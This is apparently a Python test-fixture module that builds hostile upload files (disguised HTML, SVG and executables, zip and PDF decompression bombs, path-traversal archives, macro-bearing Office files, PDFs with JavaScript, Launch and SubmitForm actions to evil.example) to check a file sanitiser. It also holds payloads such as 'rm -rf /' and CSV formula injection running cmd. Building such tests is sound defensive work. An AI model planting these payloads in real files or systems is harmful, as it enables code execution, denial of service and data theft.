"""Files that nobody should be able to store as they are, each made here: its name, its bytes, what becomes of it.

REFUSED gives a word of the French message. CLEANED gives bytes that are in the file and may not be in what is stored.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

PAGE = b"<!doctype html><html><script>alert(1)</script></html>"
SECRET = b"Patient-Jean-Dupont"


@dataclass(frozen=True)
class Hostile:
    name: str
    make: Callable[[], bytes]
    word: str = ""  # of the refusal
    gone: tuple[bytes, ...] = ()

    @property
    def is_picture(self) -> bool:
        return self.name.lower().endswith((".avif", ".gif", ".jpg", ".jpeg", ".png", ".webp", ".svg"))


def _box(name: bytes, content: bytes = b"") -> bytes:
    return struct.pack(">I4s", 8 + len(content), name) + content


MP4 = (
    _box(b"ftyp", b"isom\0\0\2\0isommp42")
    + _box(b"moov", _box(b"mvhd", bytes(100)))
    + _box(b"mdat", bytes(32))
)


# Pictures ------------------------------------------------------------------------------------------------------


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40), **options) -> bytes:
    output = io.BytesIO()
    Image.new("RGB", size, "red").save(output, kind, **options)
    return output.getvalue()


def with_exif(kind: str) -> bytes:
    data = Image.Exif()
    data[0x010E] = SECRET.decode()
    return picture(kind, exif=data.tobytes())


def _chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png(width: int, height: int, *chunks: bytes, data: bytes | None = None) -> bytes:
    """One bit a pixel."""
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    if data is None:
        packer = zlib.compressobj(9)
        row = bytes(1 + (width + 7) // 8)
        data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def png_text_bomb() -> bytes:
    bomb = zlib.compress(bytes(80_000_000), 9)
    return png(8, 8, *[_chunk(b"zTXt", b"Comment\0\0" + bomb)] * 3)


def moving(kind: str, frames: int, size: tuple[int, int]) -> bytes:
    output = io.BytesIO()
    tones = [Image.new("L", size, number % 256) for number in range(frames)]
    tones[0].save(output, kind, save_all=True, loop=0, append_images=tones[1:])
    return output.getvalue()


def _profile(words: bytes) -> bytes:
    """Something in the place of a colour profile."""
    return picture("PNG", icc_profile=words * 10)


# Archives ------------------------------------------------------------------------------------------------------


def archive(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", method) as made:
        for name, content in parts.items():
            made.writestr(zipfile.ZipInfo(name), content, method)
    return output.getvalue()


def docx(**parts: bytes) -> bytes:
    """`parts`: by names in which `__` stands for a slash and `_dot_` for a dot."""
    core = b"<cp:coreProperties><dc:creator>" + SECRET + b"</dc:creator></cp:coreProperties>"
    rows = {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
        "word/document.xml": b"<w:document/>",
        "docProps/core.xml": core,
    }
    rows |= {name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()}
    return archive(rows)


def docx_relation(kind: str, target: str) -> bytes:
    row = f'<Relationship Id="r1" Type="http://x/relationships/{kind}" Target="{target}" TargetMode="External"/>'
    return docx(word___rels__document_dot_xml_dot_rels=f"<Relationships>{row}</Relationships>".encode())


def odt(**parts: bytes) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as made:
        made.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        made.writestr("content.xml", b"<office:document-content/>")
        made.writestr("meta.xml", b"<meta:initial-creator>" + SECRET + b"</meta:initial-creator>")
        for name, content in parts.items():
            made.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return output.getvalue()


def zip_bomb(count: int = 4, size: int = 60_000_000) -> bytes:
    return archive({f"{number}.txt": b"a" * size for number in range(count)})


def lying_zip() -> bytes:
    """It says that 60 MB are 10 bytes."""
    content = bytearray(archive({"a.txt": b"a" * 60_000_000}))
    for sign, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = content.find(sign) + place
        content[at : at + 4] = (10).to_bytes(4, "little")
    return bytes(content)


def nested_zip() -> bytes:
    return archive({"inner.zip": zip_bomb(1)})


def encrypted_zip() -> bytes:
    content = bytearray(archive({"a.txt": b"secret"}))
    content[6] |= 1
    content[content.find(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


# PDF -----------------------------------------------------------------------------------------------------------


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda made: None, **saving) -> bytes:
    made = pikepdf.new()
    made.add_blank_page()
    change(made)
    output = io.BytesIO()
    made.save(output, **{"object_stream_mode": pikepdf.ObjectStreamMode.disable} | saving)
    return output.getvalue()


def _script(code: str = "app.alert(1)") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def _set(name: str, value: Callable[[pikepdf.Pdf], object]) -> Callable[[pikepdf.Pdf], None]:
    return lambda made: made.Root.__setitem__(name, value(made))


def _annotation(**fields) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        row = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **fields)
        made.pages[0].Annots = made.make_indirect(Array([made.make_indirect(row)]))

    return change


def _link(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    return _annotation(Subtype=Name.Link, A=action)


def _attach(made: pikepdf.Pdf) -> None:
    made.attachments["virus.exe"] = b"MZ" + SECRET


def _fields(made: pikepdf.Pdf) -> None:
    field = Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=_script(), F=_script()))
    form = Dictionary(Fields=Array([made.make_indirect(field)]), XFA=made.make_stream(b"<xdp:xdp/>" + SECRET))
    made.Root.AcroForm = form


def _describe(made: pikepdf.Pdf) -> None:
    made.docinfo["/Title"] = "Dossier"
    made.docinfo["/Author"] = SECRET.decode()
    with made.open_metadata() as description:
        description["dc:creator"] = [SECRET.decode()]


def _deep(made: pikepdf.Pdf) -> None:
    """A chain of actions, the last of which runs."""
    action = _script()
    for _step in range(40):
        action = Dictionary(S=Name.GoTo, D=String("x"), Next=action)
    made.Root.OpenAction = action


def stream_bomb() -> bytes:
    """An object stream of half a megabyte that unpacks to 600 MB."""
    packer = zlib.compressobj(9)
    block = b" " * 10_000_000
    data = packer.compress(b"1 0 ") + b"".join(packer.compress(block) for _ in range(60)) + packer.flush()
    head = b"%PDF-1.7\n"
    objects = b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(data)
    objects += data + b"\nendstream endobj\n"
    table_at = len(head) + len(objects)
    rows = b"".join(
        struct.pack(">BIH", *row)
        for row in ((0, 0, 0), (2, 5, 0), (0, 0, 0), (0, 0, 0), (0, 0, 0), (1, 9, 0))
    )
    table = b"6 0 obj<</Type/XRef/Size 6/W[1 4 2]/Root 1 0 R/Length %d>>stream\n%s\nendstream endobj\n" % (
        len(rows),
        rows,
    )
    return head + objects + table + b"startxref\n%d\n%%%%EOF" % table_at


ENCRYPTION = pikepdf.Encryption(owner="x", user="x")
RUNS = (b"/JavaScript", b"/JS", b"app.alert")

HOSTILE: dict[str, Hostile] = {
    # what it is not
    "page as pdf": Hostile("a.pdf", lambda: PAGE, "page web"),
    "page as picture": Hostile("a.jpg", lambda: PAGE, "page web"),
    "page as text": Hostile("a.txt", lambda: PAGE, "page web"),
    "page after a mark": Hostile("a.csv", lambda: b"\xef\xbb\xbf \n" + PAGE, "page web"),
    "page as archive": Hostile("a.zip", lambda: PAGE, "page web"),
    "page by its name": Hostile("a.html", lambda: PAGE, "html"),
    "drawing by its name": Hostile("a.svg", lambda: b"<svg onload='alert(1)'/>", "svg"),
    "drawing as picture": Hostile("a.png", lambda: b"<?xml version='1.0'?><svg onload='alert(1)'/>", "svg"),
    "drawing as pdf": Hostile("a.pdf", lambda: b"<!-- a --><svg onload='alert(1)'/>", "SVG"),
    "program as pdf": Hostile("facture.pdf", lambda: b"MZ\x90\0" + bytes(99), "programme"),
    "program by its name": Hostile("facture.pdf.exe", lambda: b"MZ\x90\0" + bytes(99), "exe"),
    "script as text": Hostile("a.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "script"),
    "old office file": Hostile("a.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99), "Office"),
    "binary as text": Hostile("a.txt", lambda: b"a" * 5_000 + b"\0\1\2", "texte"),
    "rich text": Hostile("a.rtf", lambda: b"{\\rtf1\\object}", "rtf"),
    "gif as jpeg": Hostile("a.jpg", lambda: picture("GIF"), "jp"),
    "empty": Hostile("a.pdf", lambda: b"", "vide"),
    "formula": Hostile("a.csv", lambda: b"nom;total\nx;=cmd|' /C calc'!A0\n", "tableur"),
    "hidden formula": Hostile("a.csv", lambda: b'"a"\t"@SUM(1+1)*cmd"\n', "tableur"),
    # two things at once
    "page in gif": Hostile("a.gif", lambda: picture("GIF") + PAGE, gone=(b"<script",)),
    "archive in jpeg": Hostile("a.jpg", lambda: picture() + archive({"a.exe": b"MZ"}), gone=(b"PK\3\4",)),
    "page in a comment": Hostile("a.jpg", lambda: picture(comment=PAGE), gone=(b"<script",)),
    "page in a profile": Hostile("a.png", lambda: _profile(PAGE), gone=(b"<script", b"iCCP")),
    "archive in pdf": Hostile("a.pdf", lambda: pdf() + archive({"a.exe": b"MZ"}), gone=(b"PK\3\4",)),
    "page before pdf": Hostile("a.pdf", lambda: PAGE + pdf(), "page web"),
    "page in film": Hostile("a.mp4", lambda: MP4 + PAGE, "film"),
    "archive in film": Hostile("a.mp4", lambda: MP4 + archive({"a.exe": b"MZ"}), "film"),
    "film without film": Hostile("a.mp4", lambda: MP4[:24], "film"),
    "cut film": Hostile("a.webm", lambda: b"\x1aE\xdf\xa3\x9f\x42\x82\x84webm", "film"),
    # pictures that tell or swell
    "place in jpeg": Hostile("a.jpg", lambda: with_exif("JPEG"), gone=(SECRET, b"Exif")),
    "place in webp": Hostile("a.webp", lambda: with_exif("WEBP"), gone=(SECRET,)),
    "many pixels": Hostile("a.png", lambda: png(12_000, 10_000), "pixels"),
    "more pixels than memory": Hostile("a.png", lambda: png(60_000, 60_000, data=zlib.compress(b"\0")), "pixels"),
    "moving bomb": Hostile("a.gif", lambda: moving("GIF", 120, (900, 900)), gone=(b"NETSCAPE",)),
    "text bomb": Hostile("a.png", png_text_bomb, "image"),
    "cut picture": Hostile("a.jpg", lambda: picture(size=(900, 900))[:600], "illisible"),
    # archives
    "bomb": Hostile("a.zip", zip_bomb, "décompress"),
    "bomb of tables": Hostile("a.zip", lambda: archive({"a.csv": b"a,\n" * 10_000_000}), "20,0"),
    "lying bomb": Hostile("a.zip", lying_zip, "endommagé"),
    "bomb in an archive": Hostile("a.zip", nested_zip, "inner.zip"),
    "many parts": Hostile("a.zip", lambda: archive({f"{n}.txt": b"" for n in range(2_100)}), "décompress"),
    "way out": Hostile("a.zip", lambda: archive({"../../etc/a.txt": b"x"}), "dossier"),
    "program in archive": Hostile("a.zip", lambda: archive({"a.pdf": b"MZ\x90\0"}), "programme"),
    "page in archive": Hostile("a.zip", lambda: archive({"a.html": PAGE}), "a.html"),
    "locked archive": Hostile("a.zip", encrypted_zip, "mot de passe"),
    "script in archive": Hostile("a.zip", lambda: archive({"a.pdf": pdf(_set("/OpenAction", lambda _: _script()))}),
                                 gone=RUNS),
    "place in archive": Hostile("a.zip", lambda: archive({"a.jpg": with_exif("JPEG")}), gone=(SECRET,)),
    # office
    "macros": Hostile("a.docx", lambda: docx(word__vbaProject_dot_bin=b"x"), "macros"),
    "object": Hostile("a.docx", lambda: docx(word__embeddings__oleObject1_dot_bin=b"x"), "macros"),
    "template from afar": Hostile("a.docx", lambda: docx_relation("attachedTemplate", "http://evil.example/a.dotm"),
                                  "ailleurs"),
    "link that runs": Hostile("a.docx", lambda: docx_relation("hyperlink", "javascript:alert(1)"), "ailleurs"),
    "field that runs": Hostile("a.docx", lambda: docx(word__document_dot_xml=b"<w:instrText>DDEAUTO c:\\x</w:instrText>"),
                               "macros"),
    "entities": Hostile("a.docx", lambda: docx(word__document_dot_xml=b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"),
                        "endommagé"),
    "office bomb": Hostile("a.docx", lambda: docx(word__document_dot_xml=b" " * 70_000_000), "décompress"),
    "archive as office": Hostile("a.xlsx", lambda: archive({"a.txt": b"x"}), "endommagé"),
    "author of a text": Hostile("a.docx", docx, gone=(SECRET,)),
    "author of an open text": Hostile("a.odt", odt, gone=(SECRET,)),
    "open macros": Hostile("a.odt", lambda: odt(Basic__Standard__Module1_dot_xml=b"<x/>"), "macros"),
    # pdf
    "opens a script": Hostile("a.pdf", lambda: pdf(_set("/OpenAction", lambda _: _script())), gone=RUNS),
    "opens a chain": Hostile("a.pdf", lambda: pdf(_deep), gone=RUNS),
    "named script": Hostile(
        "a.pdf",
        lambda: pdf(_set("/Names", lambda _: Dictionary(
            JavaScript=Dictionary(Names=Array([String("a"), _script()]))))),
        gone=RUNS,
    ),
    "acts by itself": Hostile("a.pdf", lambda: pdf(_set("/AA", lambda _: Dictionary(WC=_script()))),
                              gone=(*RUNS, b"/AA")),
    "starts a program": Hostile("a.pdf", lambda: pdf(_link(Dictionary(S=Name.Launch, F=String("cmd.exe")))),
                                gone=(b"/Launch", b"cmd.exe")),
    "link to a script": Hostile("a.pdf", lambda: pdf(_link(Dictionary(S=Name.URI, URI=String("javascript:alert(1)")))),
                                gone=(b"javascript",)),
    "sends a form": Hostile("a.pdf", lambda: pdf(_link(Dictionary(S=Name.SubmitForm, F=String("http://evil.example")))),
                            gone=(b"/SubmitForm", b"evil.example")),
    "opens another file": Hostile("a.pdf", lambda: pdf(_link(Dictionary(S=Name.GoToR, F=String("//evil.example/a")))),
                                  gone=(b"/GoToR", b"evil.example")),
    "attachment": Hostile("a.pdf", lambda: pdf(_attach), gone=(b"/EmbeddedFile", SECRET)),
    "pinned attachment": Hostile("a.pdf", lambda: pdf(_annotation(Subtype=Name.FileAttachment, Contents=String(SECRET.decode()))),
                                 gone=(b"/FileAttachment", SECRET)),
    "film in pdf": Hostile("a.pdf", lambda: pdf(_annotation(Subtype=Name.RichMedia, NM=String("x"))), gone=(b"/RichMedia",)),
    "form that runs": Hostile("a.pdf", lambda: pdf(_fields), gone=(*RUNS, b"/XFA", SECRET)),
    "author of a pdf": Hostile("a.pdf", lambda: pdf(_describe), gone=(SECRET, b"/Author")),
    "locked pdf": Hostile("a.pdf", lambda: pdf(encryption=ENCRYPTION), "mot de passe"),
    "broken pdf": Hostile("a.pdf", lambda: b"%PDF-1.7\n" + b"rien " * 200, "endommagé"),
    "pdf without a page": Hostile("a.pdf", lambda: pdf(lambda made: made.pages.__delitem__(0)), "endommagé"),
    "stream bomb": Hostile("a.pdf", stream_bomb, "PDF"),
}  # fmt: skip


@cache
def content(key: str) -> bytes:
    return HOSTILE[key].make()
